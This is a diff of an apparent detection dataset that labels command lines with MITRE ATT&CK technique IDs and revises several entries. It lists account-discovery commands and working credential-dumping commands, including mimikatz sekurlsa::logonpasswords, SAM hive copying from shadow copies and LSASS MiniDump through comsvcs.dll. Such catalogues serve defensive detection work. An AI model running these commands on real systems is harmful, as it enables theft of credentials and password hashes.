@@ -30,7 +30,7 @@ ac-wmic-path-win32 cmd +T1049: wmic path Win32_ServerConnection get ComputerName
 ac-wmic-path-win32-n2 cmd +T1049: wmic path Win32_ServerSession get ComputerName,UserName,ActiveTime
 ac-openfiles-query-fo cmd +T1049: openfiles /query /fo csv
 ac-cscript-nologo-e cmd +T1049: cscript //nologo //e:vbscript ‹dir›\‹name›.vbs "SELECT LocalAddress,RemoteAddress FROM MSFT_NetTCPConnection"
-ac-mshta-vbscript-execute cmd +T1049: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c netstat -ano > C:\Users\Public\‹name›.txt"",0:close")
+ac-mshta-vbscript-execute cmd +T1218.005: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c netstat -ano > C:\Users\Public\‹name›.txt"",0:close")
 ac-python-import-psutil cmd +T1049: python -c "import psutil; print(psutil.net_connections())"
 ac-python-import-subprocess cmd +T1049: python -c "import subprocess; print(subprocess.check_output(['netstat','-ano']).decode())"
 ac-tcpvcon64-accepteula-a cmd +T1049: tcpvcon64.exe -accepteula -a -n
@@ -95,7 +95,7 @@ ac-net1-user cmd +T1087.001: net1 user
 ac-net-user-n2 cmd +T1087.001: net user ‹user›
 ac-wmic-useraccount-get cmd +T1087.001: wmic useraccount get name
 ac-wmic-useraccount-get-n2 cmd +T1087.001: wmic useraccount get name,sid,disabled
-ac-wmic-useraccount-where cmd +T1087.001: wmic useraccount where "localaccount='true'" get name,lastlogin
+ac-wmic-useraccount-where cmd +T1087.001: wmic useraccount where "localaccount='true'" get name,lockout,passwordrequired
 ac-wmic-useraccount-list cmd +T1087.001: wmic useraccount list full
 ac-wmic-node-useraccount cmd +T1087.001: wmic /node:‹server› useraccount list brief
 ac-wmic-path-win32-n3 cmd +T1087.001: wmic path Win32_UserProfile get LocalPath,SID
@@ -103,7 +103,7 @@ ac-reg-query-hklm cmd +T1087.001: reg query "HKLM\SOFTWARE\Microsoft\Windows NT\
 ac-cmd-net-user cmd +T1087.001: cmd /c net user > ‹file›
 ac-net-user-more cmd +T1087.001: net user | more
 ac-cscript-nologo-vbs cmd +T1087.001: cscript //nologo ‹dir›\‹name›.vbs "WinNT://." user
-ac-mshta-vbscript-execute-n2 cmd +T1087.001: mshta vbscript:Execute("For Each u In GetObject(""WinNT://."") : If u.Class=""User"" Then MsgBox u.Name : Next : close")
+ac-mshta-vbscript-execute-n2 cmd +T1218.005: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c net user > C:\Users\Public\‹name›.txt"",0:close")
 ac-python-import-win32net cmd +T1087.001: python -c "import win32net; print(win32net.NetUserEnum(None,0))"
 ac-python-import-subprocess-n2 cmd +T1087.001: python -c "import subprocess; print(subprocess.getoutput('net user'))"
 ac-perl-mwin32-netadmin cmd +T1087.001: perl -MWin32::NetAdmin -e "Win32::NetAdmin::GetUsers('','',\@u); print @u"
@@ -124,7 +124,7 @@ ac-adsi-winnt-psbase powershell +T1087.001: ([ADSI]'WinNT://.').PSBase.Children 
 ac-adsi-winnt-computer powershell +T1087.001: [ADSI]"WinNT://‹server›,computer" | % { $_.Children } | ? { $_.SchemaClassName -eq 'User' }
 ac-add-type-assemblyname powershell +T1087.001: Add-Type -AssemblyName System.DirectoryServices.AccountManagement; $c=[DirectoryServices.AccountManagement.PrincipalContext]::new('Machine'); ([DirectoryServices.AccountManagement.PrincipalSearcher]::new([DirectoryServices.AccountManagement.UserPrincipal]::new($c))).FindAll()
 ac-get-itemproperty-hklm powershell +T1087.001: Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList\*' | select ProfileImagePath
-ac-get-netlocaluser powershell +T1087.001: Get-NetLocalUser
+ac-get-netlocaluser powershell +T1087.001: Get-LocalUser * | select Name,Description,PasswordLastSet
 ac-invoke-command-get powershell +T1087.001: Invoke-Command ‹server› { Get-LocalUser }
 ac-get-wmiobject-query powershell +T1087.001: Get-WmiObject -Query "SELECT Name,SID FROM Win32_UserAccount WHERE LocalAccount=TRUE"
 ac-cat-etc-passwd bash +T1087.001: cat /etc/passwd
@@ -163,7 +163,7 @@ ac-robocopy-b-windows cmd +T1003.002: robocopy /b C:\Windows\System32\config ‹
 ac-type-windows-system32 cmd +T1003.002: type ‹vss›\Windows\System32\config\SAM > ‹file›
 ac-mklink-d-copy cmd +T1003.002: mklink /d C:\‹name› ‹vss›\ & copy C:\‹name›\Windows\System32\config\SAM ‹dir›
 ac-mimikatz-privilege-debug cmd +T1003.002: mimikatz.exe "privilege::debug" "token::elevate" "lsadump::sam" "exit"
-ac-mimikatz-lsadump-sam cmd +T1003.002: mimikatz # lsadump::sam /system:SYSTEM /sam:SAM
+ac-mimikatz-lsadump-sam text +T1003.002: mimikatz # lsadump::sam /system:SYSTEM /sam:SAM
 ac-pwdump7 cmd +T1003.002: pwdump7.exe > ‹file›
 ac-pwdump8-f-system cmd +T1003.002: pwdump8.exe -f ‹dir›\SYSTEM ‹dir›\SAM
 ac-fgdump-w cmd +T1003.002: fgdump.exe -c -w
@@ -210,7 +210,7 @@ ac-rundll32-comsvcs-dll cmd +T1003.001: rundll32.exe comsvcs.dll, MiniDump ‹pi
 ac-rundll32-windows-system32 cmd +T1003.001: rundll32 C:\Windows\System32\comsvcs.dll MiniDump ‹pid› ‹dir›\‹name›.dmp full
 ac-rundll32-windows-system32-n2 cmd +T1003.001: rundll32.exe C:\Windows\System32\comsvcs.dll,#24 ‹pid› ‹dir›\‹name›.bin full
 ac-mimikatz-sekurlsa-logonpasswords cmd +T1003.001: mimikatz.exe "sekurlsa::logonpasswords" exit
-ac-mimikatz-sekurlsa-logonpasswords-n2 cmd +T1003.001: mimikatz # sekurlsa::logonpasswords
+ac-mimikatz-sekurlsa-logonpasswords-n2 text +T1003.001: mimikatz # sekurlsa::logonpasswords
 ac-mimikatz-privilege-debug-n2 cmd +T1003.001: mimikatz "privilege::debug" "sekurlsa::wdigest"
 ac-mimikatz-sekurlsa-minidump cmd +T1003.001: mimikatz.exe "sekurlsa::minidump lsass.dmp" "sekurlsa::logonPasswords full"
 ac-mimikatz-privilege-debug-n3 cmd +T1003.001: mimikatz.exe privilege::debug sekurlsa::ekeys exit
